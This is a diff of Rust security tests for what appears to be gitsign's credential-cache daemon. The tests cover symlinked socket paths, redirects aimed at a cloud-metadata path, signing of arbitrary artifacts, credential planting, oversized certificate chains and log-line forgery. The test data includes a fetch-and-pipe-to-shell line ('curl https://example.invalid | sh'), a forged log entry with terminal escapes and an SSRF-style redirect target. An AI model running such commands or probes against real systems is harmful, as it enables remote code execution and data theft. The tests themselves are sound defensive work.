@@ -59,6 +59,12 @@ fn cred_as(identity: &str, lifetime: i64) -> Credential {
     }
 }
 
+/// What gitsign asks the daemon to sign for a commit: the DER signed
+/// attributes of its signature (the only other shape is an object id).
+fn attrs(payload: &[u8]) -> Vec<u8> {
+    gitsign::cms::signed_attributes(payload, now())
+}
+
 /// What `Get` shows of a stored credential.
 fn public(c: &Credential) -> Certified {
     Certified {
@@ -811,14 +817,20 @@ fn stalled_clients_are_dropped_without_blocking_others() {
 #[test]
 fn many_concurrent_clients() {
     let d = Daemon::start(&[]);
+    // A live entry is never replaced, so each client stores under keys of
+    // its own and reads each back (and is refused a second store).
     let threads: Vec<_> = (0..32)
         .map(|i| {
             let c = d.client();
             thread::spawn(move || {
-                let k = key(&format!("c{i}"));
-                for j in 0..20 {
+                for j in 0..4 {
+                    let k = key(&format!("c{i}x{j}"));
                     let cr = cred_as(&format!("c{i}x{j}@example.com"), 600);
                     c.store(&k, &cr).unwrap();
+                    for _ in 0..5 {
+                        assert_eq!(c.get(&k).unwrap().unwrap(), public(&cr));
+                    }
+                    assert!(c.store(&k, &cred(300)).is_err());
                     assert_eq!(c.get(&k).unwrap().unwrap(), public(&cr));
                 }
             })
@@ -827,7 +839,7 @@ fn many_concurrent_clients() {
     for t in threads {
         t.join().unwrap();
     }
-    assert_eq!(d.client().list().unwrap().entries.len(), 32);
+    assert_eq!(d.client().list().unwrap().entries.len(), 128);
 }
 
 #[test]
@@ -931,6 +943,31 @@ fn unsafe_socket_directories_are_refused() {
     let out = run_daemon(&inner.join("c.sock"), &[]);
     assert_eq!(out.status.code(), Some(1));
     assert!(String::from_utf8_lossy(&out.stderr).contains("who could replace it"));
+
+    // A path through another user's symbolic link, to a directory of ours:
+    // that user could point the link elsewhere (in a sticky /tmp, remove
+    // and recreate it), so the path as written is checked, not only where
+    // it leads; and nothing is created through the link.
+    let target = root.path().join("target");
+    fs::create_dir(&target).unwrap();
+    fs::set_permissions(&target, fs::Permissions::from_mode(0o700)).unwrap();
+    let link = root.path().join("link");
+    std::os::unix::fs::symlink(&target, &link).unwrap();
+    std::os::unix::fs::lchown(&link, Some(65534), Some(65534)).unwrap();
+    for sock in [link.join("c.sock"), link.join("s").join("c.sock")] {
+        let out = run_daemon(&sock, &[]);
+        assert_eq!(out.status.code(), Some(1), "{}", sock.display());
+        let err = String::from_utf8_lossy(&out.stderr);
+        assert!(
+            err.contains("its path goes through")
+                && err.contains("a symbolic link owned by uid 65534"),
+            "{err}"
+        );
+    }
+    assert!(!target.join("s").exists(), "created through the link");
+    // gitsign's client refuses it too.
+    let err = Client::new(link.join("c.sock")).list().unwrap_err();
+    assert!(matches!(err, CacheError::NotOurs { .. }), "{err:?}");
 }
 
 /// Run as another user by `another_uid_is_refused` (inert otherwise): tries
@@ -1310,20 +1347,23 @@ fn verifies(message: &[u8], signature: &[u8]) -> bool {
 
 #[test]
 fn the_daemon_signs_and_never_hands_the_key_back() {
+    use base64::Engine;
     let d = Daemon::start(&[]);
     let c = d.client();
-    assert_eq!(c.sign(&key("s"), b"nothing cached", None).unwrap(), None);
+    let commit = attrs(b"a commit");
+    assert_eq!(c.sign(&key("s"), &commit, None).unwrap(), None);
     c.store(&key("s"), &cred(600)).unwrap();
-    let signed = c.sign(&key("s"), b"a commit", None).unwrap().unwrap();
-    assert!(verifies(b"a commit", &signed.signature));
-    assert!(!verifies(b"another commit", &signed.signature));
+    let signed = c.sign(&key("s"), &commit, None).unwrap().unwrap();
+    assert!(verifies(&commit, &signed.signature));
+    assert!(!verifies(&attrs(b"another commit"), &signed.signature));
     assert_eq!(signed.rekor, None);
+    let commit_b64 = base64::engine::general_purpose::STANDARD.encode(&commit);
     // Every answer about the entry, raw: the key is in none of them.
     let mut s = raw(&d.sock);
     let requests = [
         json!({"version": proto::VERSION, "op": "get", "key": key_json("s")}),
         json!({"version": proto::VERSION, "op": "get", "key": key_json("s"), "claim": true}),
-        json!({"version": proto::VERSION, "op": "sign", "key": key_json("s"), "message_b64": "eA=="}),
+        json!({"version": proto::VERSION, "op": "sign", "key": key_json("s"), "message_b64": commit_b64}),
         json!({"version": proto::VERSION, "op": "list"}),
     ];
     for r in &requests {
@@ -1340,7 +1380,7 @@ fn the_daemon_signs_and_never_hands_the_key_back() {
     let r = recv(&mut s).unwrap();
     assert_eq!(r["message"], "the message to sign is not base64");
     c.clear().unwrap();
-    assert_eq!(c.sign(&key("s"), b"a commit", None).unwrap(), None);
+    assert_eq!(c.sign(&key("s"), &commit, None).unwrap(), None);
     assert!(!d.log_text().contains(SECRET.trim()));
 }
 
@@ -1468,7 +1508,10 @@ fn the_daemon_logs_signatures_on_a_kept_alive_connection() {
         .unwrap()
         .remove(0);
     let leaf_pem = gitsign::pem::encode("CERTIFICATE", leaf.der());
-    for message in [&b"first"[..], b"second", b"third"] {
+    // Signed attributes (offline mode) and an object id (online mode).
+    let (first, second) = (attrs(b"first"), attrs(b"second"));
+    let third = b"0123456789abcdef0123456789abcdef01234567";
+    for message in [&first[..], &second[..], &third[..]] {
         let signed = c
             .sign(&key("r"), message, Some(target.clone()))
             .unwrap()
@@ -1509,8 +1552,9 @@ fn the_daemon_logs_signatures_on_a_kept_alive_connection() {
             url: url.into(),
             timeout_ms: 5_000,
         };
-        let signed = c.sign(&key("r"), b"x", Some(target)).unwrap().unwrap();
-        assert!(verifies(b"x", &signed.signature));
+        let x = attrs(b"x");
+        let signed = c.sign(&key("r"), &x, Some(target)).unwrap().unwrap();
+        assert!(verifies(&x, &signed.signature));
         signed.rekor.unwrap().unwrap_err()
     };
     let why = no_entry(&dead_url);
@@ -1578,7 +1622,9 @@ fn recording_server(
 /// The daemon is no HTTP client for whoever reaches its socket: asked to
 /// post to another URL than the configured Rekor, or redirected by that
 /// Rekor, it fetches nothing elsewhere, and it never hands back bytes
-/// Rekor (or anyone) chose that are not a log entry.
+/// Rekor (or anyone) chose that are not a log entry. The redirects include
+/// 307 and 308, which keep the method and body: a client that followed
+/// them would POST the entry to the other host (and 303, a GET there).
 #[test]
 fn the_daemon_fetches_nothing_a_client_or_rekor_points_it_to() {
     use base64::Engine;
@@ -1591,17 +1637,56 @@ fn the_daemon_fetches_nothing_a_client_or_rekor_points_it_to() {
         )
     };
     let (elsewhere, reached) = recording_server(move |_| reply("200 OK", ""));
-    let to = format!("{elsewhere}/latest/meta-data");
-    let (redirector, _) =
-        recording_server(move |_| reply("303 See Other", &format!("location: {to}\r\n")));
+    let redirector = |status: &'static str| {
+        let to = format!("{elsewhere}/latest/meta-data");
+        recording_server(move |_| reply(status, &format!("location: {to}\r\n")))
+    };
+    let (see_other, see_other_heard) = redirector("303 See Other");
+    let (temporary, temporary_heard) = redirector("307 Temporary Redirect");
+    let (permanent, permanent_heard) = redirector("308 Permanent Redirect");
     let (answerer, answered) = recording_server(move |_| reply("201 Created", ""));
-    // (configured Rekor, Rekor the client names)
+    let post = "POST /api/v1/log/entries HTTP/1.1".to_string();
+    // (case, configured Rekor, Rekor the client names, who must hear the
+    // daemon's one POST, what the daemon says about it)
     let cases = [
-        ("a client naming another URL", &answerer, &elsewhere),
-        ("a redirect", &redirector, &redirector),
-        ("an answer that is no log entry", &answerer, &answerer),
+        (
+            "a client naming another URL",
+            &answerer,
+            &elsewhere,
+            None,
+            "posts only to the Rekor its own configuration names",
+        ),
+        (
+            "a 303 redirect",
+            &see_other,
+            &see_other,
+            Some(&see_other_heard),
+            "HTTP 303 (a redirect, which the daemon does not follow)",
+        ),
+        (
+            "a 307 redirect",
+            &temporary,
+            &temporary,
+            Some(&temporary_heard),
+            "HTTP 307 (a redirect, which the daemon does not follow)",
+        ),
+        (
+            "a 308 redirect",
+            &permanent,
+            &permanent,
+            Some(&permanent_heard),
+            "HTTP 308 (a redirect, which the daemon does not follow)",
+        ),
+        (
+            "an answer that is no log entry",
+            &answerer,
+            &answerer,
+            Some(&answered),
+            "did not answer with a log entry",
+        ),
     ];
-    for (case, configured, named) in cases {
+    let message = base64::engine::general_purpose::STANDARD.encode(attrs(b"x"));
+    for (case, configured, named, hears, says) in cases {
         let root = private_tempdir();
         let sock = root.path().join("s").join("c.sock");
         let log = root.path().join("daemon.log");
@@ -1631,6 +1716,11 @@ fn the_daemon_fetches_nothing_a_client_or_rekor_points_it_to() {
         let mut s = raw(&sock);
         send(
             &mut s,
+            &json!({"version": proto::VERSION, "op": "get", "key": key_json("p"), "claim": true}),
+        );
+        assert_eq!(recv(&mut s).unwrap()["status"], "claimed", "{case}");
+        send(
+            &mut s,
             &json!({"version": proto::VERSION, "op": "store", "key": key_json("p"),
                     "credential": serde_json::to_value(cred(600)).unwrap()}),
         );
@@ -1638,7 +1728,7 @@ fn the_daemon_fetches_nothing_a_client_or_rekor_points_it_to() {
         send(
             &mut s,
             &json!({"version": proto::VERSION, "op": "sign", "key": key_json("p"),
-                    "message_b64": "eA==", "rekor": {"url": named, "timeout_ms": 5000}}),
+                    "message_b64": message, "rekor": {"url": named, "timeout_ms": 5000}}),
         );
         let answer = recv(&mut s).unwrap().to_string();
         let _ = child.kill();
@@ -1647,12 +1737,185 @@ fn the_daemon_fetches_nothing_a_client_or_rekor_points_it_to() {
             answer.contains("signature_b64"),
             "{case}: still signed: {answer}"
         );
+        assert!(answer.contains(says), "{case}: {answer}");
         let got: Vec<String> = reached.try_iter().collect();
         assert!(got.is_empty(), "{case}: the daemon fetched {got:?}");
         assert!(
             !answer.contains("FOREIGN") && !answer.contains(&foreign_b64),
             "{case}: foreign bytes came back: {answer}"
         );
+        // The configured Rekor heard exactly the daemon's one POST (so the
+        // redirect was answered, and not followed), or nothing at all.
+        for (server, heard) in [
+            (&see_other, &see_other_heard),
+            (&temporary, &temporary_heard),
+            (&permanent, &permanent_heard),
+            (&answerer, &answered),
+        ] {
+            let got: Vec<String> = heard.try_iter().collect();
+            let expected = if hears.is_some_and(|h| std::ptr::eq(h, heard)) {
+                vec![post.clone()]
+            } else {
+                vec![]
+            };
+            assert_eq!(got, expected, "{case}: what {server} heard");
+        }
     }
-    drop(answered);
+}
+
+/// Whoever reaches the socket (the far end of a forwarded socket, too)
+/// can have the daemon sign any bytes with the user's key and, with a
+/// `rekor` target, log them: a signature over an arbitrary artifact (a
+/// release tarball, a script) under the user's Fulcio certificate, logged
+/// in Rekor by the user's own daemon, which `cosign verify-blob
+/// --certificate-identity <user>` accepts. gitsign itself only ever asks
+/// for two shapes: the DER SignedAttributes of a CMS signature (a SET with
+/// contentType, signingTime and messageDigest) and, in online mode, a hex
+/// object id. Signing commits the user never made is inherent in an agent
+/// (documented, as with ssh-agent); signing anything else is not needed.
+/// Expected: anything but those shapes is refused and nothing is posted.
+#[test]
+fn the_daemon_signs_only_what_gitsign_signs() {
+    let (url, posted) = fake_rekor();
+    let d = Daemon::start(&["--rekor-url", &url]);
+    let c = d.client();
+    c.store(&key("art"), &cred(600)).unwrap();
+    let artifact = b"#!/bin/sh\n# release 1.0 installer\ncurl https://example.invalid | sh\n";
+    let target = proto::RekorTarget {
+        url: url.clone(),
+        timeout_ms: 5_000,
+    };
+    let answer = c.sign(&key("art"), artifact, Some(target));
+    let signed_artifact = matches!(&answer, Ok(Some(s)) if verifies(artifact, &s.signature));
+    let logged = posted.recv_timeout(Duration::from_millis(500)).is_ok();
+    assert!(
+        !signed_artifact && !logged,
+        "the daemon signed an arbitrary artifact with the user's key (logged in Rekor: {logged})"
+    );
+}
+
+/// A client's `Store` is kept as sent apart from the leaf's checks: its
+/// chain may carry up to a frame (1 MiB) of further certificates nobody
+/// checks, under each of 1024 keys, so one client of the socket (the far
+/// end of a forwarded socket) grows the daemon by a gigabyte (measured:
+/// 200 such entries, 215 MB resident), and every `Get` hands the user's
+/// gitsign a megabyte of certificates to parse per signature. Expected: the
+/// daemon keeps only what the certificate needs (the leaf and the path the
+/// trusted root vouches for), so an entry stays a few kilobytes.
+#[test]
+fn a_stored_chain_is_bounded_to_what_the_certificate_needs() {
+    let d = Daemon::start(&[]);
+    let c = d.client();
+    let leaf = CERT
+        .split_inclusive("-----END CERTIFICATE-----\n")
+        .next()
+        .unwrap()
+        .to_string();
+    let mut padded = cred(600);
+    padded.chain_pem = leaf.repeat(600);
+    assert!(padded.chain_pem.len() > 500 * 1024);
+    let stored = c.store(&key("pad"), &padded);
+    let kept = c
+        .get(&key("pad"))
+        .unwrap()
+        .map(|h| h.chain_pem.len())
+        .unwrap_or(0);
+    assert!(
+        stored.is_err() || kept < 64 * 1024,
+        "the daemon keeps and serves {kept} bytes of certificates for one entry"
+    );
+}
+
+/// A `Store` is taken only from the connection holding the key's claim,
+/// and never over a live entry: another client of the socket can neither
+/// plant a credential for a login in progress nor replace the user's.
+#[test]
+fn a_store_needs_the_claim_and_never_replaces_a_live_entry() {
+    let d = Daemon::start(&[]);
+    let store = |s: &mut UnixStream, who: &str| {
+        send(
+            s,
+            &json!({"version": proto::VERSION, "op": "store", "key": key_json("own"),
+                    "credential": serde_json::to_value(cred_as(who, 600)).unwrap()}),
+        );
+        recv(s).unwrap()
+    };
+    // Without a claim: refused.
+    let mut stranger = raw(&d.sock);
+    let r = store(&mut stranger, "mallory@example.com");
+    assert_eq!(r["status"], "error", "{r}");
+    assert!(
+        r["message"]
+            .as_str()
+            .unwrap()
+            .contains("only the client holding"),
+        "{r}"
+    );
+    // The user's gitsign claims; another connection's store is refused.
+    let mut user = raw(&d.sock);
+    send(
+        &mut user,
+        &json!({"version": proto::VERSION, "op": "get", "key": key_json("own"), "claim": true}),
+    );
+    assert_eq!(recv(&mut user).unwrap()["status"], "claimed");
+    let r = store(&mut stranger, "mallory@example.com");
+    assert!(
+        r["message"]
+            .as_str()
+            .unwrap()
+            .contains("only the client holding"),
+        "{r}"
+    );
+    assert_eq!(store(&mut user, "alice@example.com")["status"], "ok");
+    // A live entry stays, whoever asks, through the client API too.
+    let err = d
+        .client()
+        .store(&key("own"), &cred_as("mallory@example.com", 600))
+        .unwrap_err();
+    assert!(
+        err.to_string().contains("never replaces a live one"),
+        "{err}"
+    );
+    assert_eq!(
+        d.client().get(&key("own")).unwrap().unwrap().identity,
+        "alice@example.com"
+    );
+    assert!(
+        d.log_text().contains("refused to store"),
+        "{}",
+        d.log_text()
+    );
+}
+
+/// `expires_at` is the storing client's word: the daemon never serves an
+/// entry past its certificate's notAfter less the margin gitsign uses.
+#[test]
+fn an_entry_is_never_served_past_its_certificate() {
+    let d = Daemon::start(&[]);
+    let c = d.client();
+    c.store(&key("long"), &cred(100 * 365 * 24 * 3600)).unwrap();
+    let leaf = gitsign::x509::certificates_from_pem(CERT)
+        .unwrap()
+        .remove(0);
+    let until = leaf.not_after - gitsign::cache::margin(&leaf);
+    assert_eq!(c.get(&key("long")).unwrap().unwrap().expires_at, until);
+    assert_eq!(c.list().unwrap().entries[0].expires_at, until);
+}
+
+/// Key fields are the client's words: in the daemon's log they are
+/// escaped, so a client cannot forge or redraw log lines.
+#[test]
+fn client_words_reach_the_log_escaped() {
+    let d = Daemon::start(&[]);
+    let mut k = key("esc");
+    k.identity = "x\ngitsign-credential-cache: forged line\u{1b}[2K".into();
+    let _ = d.client().get_or_claim(&k, Duration::ZERO).unwrap();
+    wait_log(&d, "claimed the login", 1);
+    let log = d.log_text();
+    assert!(!log.contains("\ngitsign-credential-cache: forged"), "{log}");
+    assert!(!log.contains('\u{1b}'), "{log}");
+    assert!(
+        log.contains("x\\x0agitsign-credential-cache: forged line\\x1b[2K"),
+        "{log}"
+    );
 }
